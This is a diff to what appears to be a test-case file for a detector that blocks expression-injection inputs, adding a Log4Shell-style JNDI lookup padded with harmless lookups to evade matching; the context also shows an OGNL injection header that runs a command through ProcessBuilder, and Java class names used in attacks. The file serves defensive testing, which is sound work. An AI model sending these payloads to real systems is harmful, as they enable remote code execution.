@@ -14,6 +14,12 @@ const OGNL_HEADER =
     "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):(1)).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"
 
 export const EXPRESSION_CASES: readonly ExpressionCase[] = [
+    {
+        text: `${"${::-x}".repeat(40)}\${jndi:ldap://example.com}`,
+        want: "block",
+        technique: "jndi-lookup",
+        why: "many harmless lookups before it",
+    },
     { text: "java.lang.ProcessBuilder", want: "block", technique: "java-class-name", why: "a class for reflection" },
     {
         text: "com.sun.rowset.JdbcRowSetImpl",
